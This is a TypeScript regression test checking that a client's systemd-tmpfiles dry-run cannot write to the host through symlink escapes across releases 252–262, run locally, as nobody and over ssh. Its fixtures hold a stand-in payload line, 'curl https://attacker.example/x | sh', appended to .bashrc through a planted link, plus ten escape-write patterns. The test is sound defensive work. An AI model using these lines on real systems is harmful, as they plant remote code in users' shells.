/**
 * A dry-run cannot write to the host, for every release 252–262 this
 * machine has (test/support/releaseBinaries.ts), run through the client's
 * own command lines and runner: locally as root, locally as an unprivileged
 * user (nobody, through setpriv), and over a real sshd on 127.0.0.1.
 *
 * Before 256 systemd-tmpfiles has no --dry-run and `--root` alone does not
 * keep it in: a line makes a symbolic link inside the root and a later line
 * follows it back out (`L /x - - - - /home/u/.bashrc`, then `w+ /x …`
 * appended to the real file). Each case below plants such a link, with the
 * target written absolute, through `%h` and as a relative `../../..` climb,
 * and then writes, truncates, changes modes, creates, copies, removes and
 * cleans through it. The victim trees (in the temporary directory and in
 * the home directory) must be the same before and after every run, down to
 * contents, modes, owners and times, and systemd-tmpfiles must really have
 * run (its output names the links).
 */
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir, tmpdir, userInfo } from "node:os";
import { join } from "node:path";
import {
  DRY_RUN_RELEASE,
  NO_ISOLATION_EXIT,
  dryRunCommandLine,
  type CommandLine,
  type DryRunTarget,
} from "../../client/src/dryRun/commandLine";
import { runToEnd, start, stopProcess } from "../../client/src/dryRun/process";
import { spawnSync } from "node:child_process";
import { sshdProblem, startSshd, type Sshd } from "../browser/harness/sshd";
import { ALL_RELEASES, availableReleases, installOnPath } from "../support/releaseBinaries";
import { count } from "./counts";
import { snapshot } from "../support/treeSnapshot";

const NOBODY = 65534;
const releases = availableReleases();
const sshProblem = sshdProblem();
const isRoot = process.getuid?.() === 0;

let work: string;
let sshd: Sshd | undefined;
/** Victim trees: what a run must never change. */
const victims: { root: string; home: string; nobodyRoot: string; nobodyHome: string } = {
  root: "",
  home: "",
  nobodyRoot: "",
  nobodyHome: "",
};

function plantVictim(dir: string, owner?: number): void {
  mkdirSync(join(dir, "dir"), { recursive: true });
  writeFileSync(join(dir, ".bashrc"), "# the user's own shell start-up\n");
  writeFileSync(join(dir, "file"), "original\n");
  writeFileSync(join(dir, "dir", "child"), "child\n");
  writeFileSync(join(dir, "dir", "keep"), "keep\n");
  if (owner !== undefined)
    for (const p of [
      dir,
      join(dir, "dir"),
      join(dir, ".bashrc"),
      join(dir, "file"),
      join(dir, "dir", "child"),
      join(dir, "dir", "keep"),
    ])
      chownSync(p, owner, owner);
}

function snapshotAll(): Record<string, Record<string, string>> {
  return Object.fromEntries(
    Object.entries(victims)
      .filter(([, d]) => d !== "")
      .map(([k, d]) => [k, snapshot(d)]),
  );
}

type Form = "absolute" | "%h" | "relative";

/** How a link line names the victim path `p` (below `home` for %h). */
function linkTarget(form: Form, p: string, home: string): string {
  if (form === "absolute") return p;
  if (form === "%h") return `%h${p.slice(home.length)}`;
  return `${"../".repeat(16)}${p.slice(1)}`;
}

/** The finding's own lines: a link to the user's .bashrc, then a line appended through it. */
function findingText(home: string): string {
  return [`L /x - - - - ${home}/.bashrc`, "w+ /x - - - - \\ncurl https://attacker.example/x | sh", ""].join("\n");
}

/** Ten ways to write through a planted link; the link target written in `form`. */
function symlinkCases(form: Form, victim: string, home: string): string {
  const file = linkTarget(form, join(victim, "file"), home);
  const dir = linkTarget(form, join(victim, "dir"), home);
  return [
    `L /x1 - - - - ${file}`,
    "w+ /x1 - - - - \\nappended",
    `L /x2 - - - - ${file}`,
    "w /x2 - - - - overwritten",
    `L /x3 - - - - ${file}`,
    "f+ /x3 0644 - - - truncated",
    `L /x4 - - - - ${file}`,
    "z /x4 0777 root root -",
    `L /x5 - - - - ${dir}`,
    "d /x5/new 0755 - - -",
    `L /x6 - - - - ${dir}`,
    "f /x6/new-file 0644 - - - x",
    `L /x7 - - - - ${dir}`,
    "R /x7/child",
    `L /x8 - - - - ${dir}`,
    "Z /x8 0777 root root -",
    `L /x9 - - - - ${dir}`,
    "e /x9 - - - 0",
    `L /x10 - - - - ${dir}`,
    "C /x10/copied - - - - /etc/hostname",
    "",
  ].join("\n");
}

/** The texts one run is tried with, and a path its output must name to show systemd-tmpfiles ran. */
function texts(victim: string, home: string): { name: string; text: string; ran: RegExp }[] {
  return [
    { name: "the finding's .bashrc lines", text: findingText(home), ran: /\/x\b/ },
    ...(["absolute", "%h", "relative"] as const).map((form) => ({
      name: `ten writes through a link written ${form}`,
      text: symlinkCases(form, victim, home),
      ran: /\/x1\b/,
    })),
  ];
}

before(async () => {
  work = mkdtempSync(join(tmpdir(), "tmpfiles-security-"));
  chmodSync(work, 0o755);
  victims.root = join(work, "victim");
  plantVictim(victims.root);
  victims.home = mkdtempSync(join(homedir(), ".tmpfiles-victim-"));
  plantVictim(victims.home);
  if (isRoot) {
    victims.nobodyRoot = join(work, "victim-nobody");
    victims.nobodyHome = join(work, "home-nobody");
    mkdirSync(victims.nobodyHome);
    chownSync(victims.nobodyHome, NOBODY, NOBODY);
    plantVictim(victims.nobodyRoot, NOBODY);
    plantVictim(join(victims.nobodyHome, "v"), NOBODY);
  }
  for (const r of releases) installOnPath(r, join(work, "bin", String(r)));
  if (!sshProblem) {
    // The remote login's PATH leads to the release under test: bin/current, switched per release.
    sshd = await startSshd({
      sshdConfig: [`SetEnv PATH=${join(work, "bin", "current")}:/usr/local/bin:/usr/bin:/bin`],
    });
  }
});

after(async () => {
  await sshd?.stop();
  rmSync(work, { recursive: true, force: true });
  if (victims.home) rmSync(victims.home, { recursive: true, force: true });
});

/** Runs the client's dry-run command line with `env`; as nobody through setpriv and env when asked. */
async function dryRun(cmd: CommandLine, text: string, env: Record<string, string>, asNobody = false) {
  const run: CommandLine = asNobody
    ? {
        ...cmd,
        executable: "setpriv",
        args: [
          `--reuid=${NOBODY}`,
          `--regid=${NOBODY}`,
          "--clear-groups",
          "--",
          "env",
          ...Object.entries(env).map(([k, v]) => `${k}=${v}`),
          cmd.executable,
          ...cmd.args,
        ],
      }
    : cmd;
  const saved = { PATH: process.env.PATH, HOME: process.env.HOME };
  if (!asNobody) Object.assign(process.env, env);
  try {
    return await runToEnd(run, { stdinText: text, cwd: "/", timeoutMs: 60_000 });
  } finally {
    process.env.PATH = saved.PATH;
    process.env.HOME = saved.HOME;
  }
}

function assertRanAndChangedNothing(
  r: { code: number | null; stdout: string; stderr: string; error?: Error },
  ran: RegExp,
  beforeRun: Record<string, Record<string, string>>,
  what: string,
): void {
  count("dry-runs checked against the host tree");
  const output = r.stdout + r.stderr;
  assert.deepEqual(snapshotAll(), beforeRun, `${what}: the host's files are as they were\n${output.slice(0, 3000)}`);
  assert.equal(r.error, undefined, what);
  assert.notEqual(
    r.code,
    NO_ISOLATION_EXIT,
    `${what}: isolation is available here, the run must happen\n${output.slice(0, 3000)}`,
  );
  assert.notEqual(r.code, 127, `${what}: systemd-tmpfiles was found\n${output.slice(0, 3000)}`);
  assert.match(output, ran, `${what}: systemd-tmpfiles ran and named the link\n${output.slice(0, 3000)}`);
}

test("every release 252–262 has its binary here (CI requires all of them)", () => {
  const missing = ALL_RELEASES.filter((r) => !releases.includes(r));
  if (missing.length > 0) {
    const msg = `systemd-tmpfiles ${missing.join(", ")} not on this machine (scripts/fetch-systemd-oracles.sh, ../shared/systemd/bin): their dry-runs are not tested`;
    if (process.env.CI) assert.fail(msg);
    console.warn(`WARNING: ${msg}`);
  }
  assert.ok(releases.length > 0, "at least one release to test");
});

for (const release of ALL_RELEASES) {
  const absent = releases.includes(release) ? false : `systemd-tmpfiles ${release} is not on this machine`;

  test(
    `${release}: a local dry-run as ${userInfo().username} leaves the host's files as they were`,
    { skip: absent, timeout: 300_000 },
    async () => {
      const env = {
        PATH: `${join(work, "bin", String(release))}:${process.env.PATH ?? "/usr/bin:/bin"}`,
        HOME: victims.home,
      };
      for (const t of [...texts(victims.root, victims.home), ...texts(victims.home, victims.home).slice(1)]) {
        const beforeRun = snapshotAll();
        const r = await dryRun(dryRunCommandLine({ kind: "local" }, release), t.text, env);
        assertRanAndChangedNothing(r, t.ran, beforeRun, `${release} local, ${t.name}`);
      }
    },
  );

  test(
    `${release}: a local dry-run as an unprivileged user leaves the host's files as they were`,
    { skip: absent || (!isRoot && "needs root to switch to nobody"), timeout: 300_000 },
    async () => {
      const env = {
        PATH: `${join(work, "bin", String(release))}:/usr/local/bin:/usr/bin:/bin`,
        HOME: victims.nobodyHome,
      };
      for (const t of [
        ...texts(victims.nobodyRoot, victims.nobodyHome),
        ...texts(join(victims.nobodyHome, "v"), victims.nobodyHome).slice(1),
      ]) {
        const beforeRun = snapshotAll();
        const r = await dryRun(
          dryRunCommandLine({ kind: "local" }, release),
          t.text.replace(/\.bashrc/g, "v/.bashrc"),
          env,
          true,
        );
        assertRanAndChangedNothing(r, t.ran, beforeRun, `${release} as nobody, ${t.name}`);
      }
    },
  );

  test(
    `${release}: a dry-run over ssh to 127.0.0.1 leaves the host's files as they were`,
    { skip: absent || (sshProblem !== undefined && !process.env.CI ? sshProblem : false), timeout: 300_000 },
    async () => {
      if (sshProblem) assert.fail(sshProblem);
      const current = join(work, "bin", "current");
      rmSync(current, { force: true });
      symlinkSync(join(work, "bin", String(release)), current);
      const target: DryRunTarget = { kind: "ssh", host: sshd!.alias, sshConfig: sshd!.sshConfig };
      for (const t of [...texts(victims.root, victims.home), ...texts(victims.home, victims.home).slice(1)]) {
        const beforeRun = snapshotAll();
        const r = await dryRun(dryRunCommandLine(target, release), t.text, {});
        assertRanAndChangedNothing(r, t.ran, beforeRun, `${release} over ssh, ${t.name}`);
        if (release >= DRY_RUN_RELEASE) assert.doesNotMatch(r.stdout, /Scratch root/, "256 and later use --dry-run");
      }
    },
  );
}

test(
  "before 256, a host that refuses namespaces gets no run at all: exit 69 and why, nothing changed",
  { skip: !releases.some((r) => r < DRY_RUN_RELEASE) && "no release before 256 here", timeout: 60_000 },
  async () => {
    const release = releases.find((r) => r < DRY_RUN_RELEASE)!;
    const fake = join(work, "no-unshare");
    mkdirSync(fake, { recursive: true });
    writeFileSync(
      join(fake, "unshare"),
      "#!/bin/sh\necho 'unshare: unshare failed: Operation not permitted' >&2\nexit 1\n",
    );
    chmodSync(join(fake, "unshare"), 0o755);
    const beforeRun = snapshotAll();
    const r = await dryRun(dryRunCommandLine({ kind: "local" }, release), findingText(victims.home), {
      PATH: `${fake}:${join(work, "bin", String(release))}:/usr/bin:/bin`,
      HOME: victims.home,
    });
    assert.deepEqual(snapshotAll(), beforeRun);
    assert.equal(r.code, NO_ISOLATION_EXIT, r.stdout + r.stderr);
    assert.match(r.stderr, /systemd-tmpfiles did not run, nothing was changed/);
    assert.doesNotMatch(r.stdout, /Would create/);
  },
);

test(
  "before 256, stopping a run ends every process of it, inside the namespaces too",
  { timeout: 60_000 },
  async () => {
    const hang = join(work, "hang");
    mkdirSync(hang, { recursive: true });
    // A systemd-tmpfiles that never ends: stands for a run stuck inside the isolated root.
    writeFileSync(join(hang, "systemd-tmpfiles"), "#!/bin/sh\necho started\nexec sleep 3141\n");
    chmodSync(join(hang, "systemd-tmpfiles"), 0o755);
    const saved = process.env.PATH;
    process.env.PATH = `${hang}:${saved ?? ""}`;
    try {
      let output = "";
      const running = start(dryRunCommandLine({ kind: "local" }, 252), "d /run/x\n", (t) => (output += t), "/");
      while (!output.includes("started")) {
        assert.equal(running.child.exitCode, null, output);
        await new Promise((r) => setTimeout(r, 50));
      }
      assert.equal(spawnSync("pgrep", ["-f", "sleep 3141"]).status, 0, "the stuck run is there");
      stopProcess(running.child);
      const done = await running.done;
      assert.ok(done.signal === "SIGKILL" || done.signal === "SIGTERM", `ended by a signal: ${JSON.stringify(done)}`);
      for (let i = 0; i < 40 && spawnSync("pgrep", ["-f", "sleep 3141"]).status === 0; i++)
        await new Promise((r) => setTimeout(r, 50));
      assert.notEqual(spawnSync("pgrep", ["-f", "sleep 3141"]).status, 0, "nothing of the run is left");
    } finally {
      process.env.PATH = saved;
    }
  },
);

test("the victim trees exist, so a run that wrote to them would be seen", () => {
  assert.ok(existsSync(join(victims.home, ".bashrc")) && existsSync(join(victims.root, "dir", "child")));
});
